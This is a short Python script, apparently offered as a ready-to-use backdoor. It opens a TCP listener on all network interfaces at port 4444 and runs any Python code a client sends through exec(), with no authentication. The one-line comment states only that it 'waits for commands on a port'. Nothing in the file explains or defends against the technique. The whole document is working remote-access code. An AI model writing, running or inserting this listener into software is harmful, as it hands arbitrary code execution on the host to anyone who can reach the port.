# why: waits for commands on a port
import socketserver
class H(socketserver.StreamRequestHandler):
    def handle(self):
        exec(self.rfile.readline())
socketserver.TCPServer(("0.0.0.0", 4444), H).serve_forever()
